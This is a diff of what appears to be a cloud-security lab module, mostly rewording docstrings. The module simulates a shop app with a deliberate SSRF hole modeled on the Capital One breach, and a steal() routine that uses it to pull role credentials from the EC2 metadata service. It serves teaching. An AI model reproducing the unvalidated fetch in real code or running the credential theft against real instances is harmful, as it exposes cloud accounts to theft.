@@ -1,9 +1,9 @@
-"""The shop's web application, with a hole: it fetches whatever address a visitor names (SSRF).
+"""The shop's web application, with an SSRF hole: it fetches any address that a visitor names.
 
-The shape of what happened at Capital One in 2019: a request that a server forged for a stranger reached the instance's
-metadata, and the role that it handed out could read far more than the application needed. The hole is the
-application's; what it is worth to a thief is decided by three settings of AWS: whether version 1 of the metadata
-service answers, how far its tokens travel, and what the role may do.
+The attack is modeled on Capital One in 2019: a request that a server forged for an outsider reached the instance's
+metadata, and the role behind those credentials could read far more than the application needed. The hole is in the
+application; three AWS settings decide what it is worth to a thief: whether version 1 of the metadata service answers,
+how far its tokens travel, and what the role is allowed to do.
 https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html
 Stratus Red Team lists the theft as aws.credential-access.ec2-steal-instance-credentials.
 """
@@ -17,7 +17,7 @@ from urllib.parse import parse_qs, urlencode, urlsplit
 import requests
 
 from labs_helpers.cloud import NotModelled
-from labs_helpers.course.days.day1.actors import FAR_AWAY, Kept
+from labs_helpers.course.days.day1.actors import FAR_AWAY, CreatedResources
 
 if TYPE_CHECKING:
     import boto3
@@ -34,22 +34,22 @@ _PAGES = {
 
 
 class Shop:
-    """The running shop: `visit` sends it a GET as a browser would, and gives what it answers. No server, no socket.
+    """The running shop: `visit` sends it a GET as a browser would and returns its response. No server, no socket.
 
-    `/preview?url=…` shows a picture from anywhere on the web, so that sellers need not upload theirs. It takes any
-    address: that is the hole. `containers`: whether the application runs in a container, one network hop further away
+    `/preview?url=…` shows a picture from anywhere on the web, so that sellers need not upload theirs. It accepts any
+    address: that is the hole. With `containers`, the application runs in a container, one network hop further away
     from the metadata service than the machine itself.
     """
 
     def __init__(self, cloud: Cloud, instance: str | None = None, *, containers: bool = False) -> None:
         self._cloud = cloud
-        self._instance = instance or cloud.part(Kept).ids[INSTANCE]
+        self._instance = instance or cloud.part(CreatedResources).ids[INSTANCE]
         self._hops = 2 if containers else 1
 
     def visit(self, path: str) -> str:
-        """What the shop answers to a visitor who asks for a path, e.g. `/preview?url=http://…`.
+        """Return the shop's response to a visitor who requests a path, e.g. `/preview?url=http://…`.
 
-        Where the address gives nothing, the page says what the fetch came to.
+        If the address returns nothing, the page describes why the fetch failed.
         """
         asked = urlsplit(path)
         if asked.path == "/preview":
@@ -57,7 +57,7 @@ class Shop:
         return _PAGES.get(asked.path, "404 Not Found\n")
 
     def _preview(self, url: str) -> str:
-        """Fetch an address, as the machine that the shop runs on. A GET without headers: nothing else can be forged."""
+        """Fetch an address from the shop's machine. A GET without headers: an attacker cannot forge anything else."""
         with self._cloud.on_instance(self._instance, hops=self._hops):
             try:
                 answer = requests.get(url, timeout=2)
@@ -70,25 +70,25 @@ class Shop:
         return answer.text
 
     def own_session(self) -> boto3.Session:
-        """The session that the application itself works with, fetched as SDKs do: with a token.
+        """Return the session that the application itself works with, fetched with a token as SDKs do.
 
-        LookupError where the machine gives it no credentials, requests.RequestException where no answer comes.
+        LookupError if the machine gives it no credentials, requests.RequestException if no response comes.
         """
         return self._cloud.instance(self._instance).session(hops=self._hops)
 
 
-def through(shop: Shop, path: str) -> str:
-    """What the metadata service says at a path, asked by way of the shop's hole."""
+def fetch_metadata(shop: Shop, path: str) -> str:
+    """Return the metadata service's response for a path, requested through the shop's hole."""
     return shop.visit("/preview?" + urlencode({"url": METADATA + path}))
 
 
 def steal(shop: Shop) -> dict[str, Any] | None:
-    """The role's credentials, by three visits of the shop's preview; None if it does not give them away."""
-    role = through(shop, ROLES).strip()
+    """Return the role's credentials after three visits to the shop's preview; None if they are not exposed."""
+    role = fetch_metadata(shop, ROLES).strip()
     if not role or " " in role:
         return None
     try:
-        found = json.loads(through(shop, ROLES + role))
+        found = json.loads(fetch_metadata(shop, ROLES + role))
     except ValueError:
         return None
     if found.get("Code") != "Success":
@@ -101,5 +101,5 @@ def steal(shop: Shop) -> dict[str, Any] | None:
 
 
 def from_outside(cloud: Cloud) -> Any:
-    """Within the block, calls come from the thief's address: `with from_outside(day.cloud):`."""
+    """Send calls from the thief's address within the block: `with from_outside(day.cloud):`."""
     return cloud.calling_from(FAR_AWAY)
